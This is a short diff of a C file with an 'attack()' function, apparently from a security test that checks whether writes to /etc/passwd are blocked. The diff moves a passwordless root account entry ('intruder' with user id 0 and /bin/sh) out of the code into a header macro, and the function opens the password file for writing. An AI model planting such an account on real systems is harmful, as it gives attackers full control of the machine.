@@ -9,10 +9,11 @@
 #include <unistd.h>
 
 #include "attack.h"
+#include "files.h"
 
 void attack(void)
 {
-	static const char line[] = "intruder::0:0::/:/bin/sh\n";
+	static const char line[] = INTRUDER_ENTRY;
 	char said[sizeof(line)] = "";
 	int fd = open("/etc/passwd", O_RDWR | O_CLOEXEC);
 	off_t end;
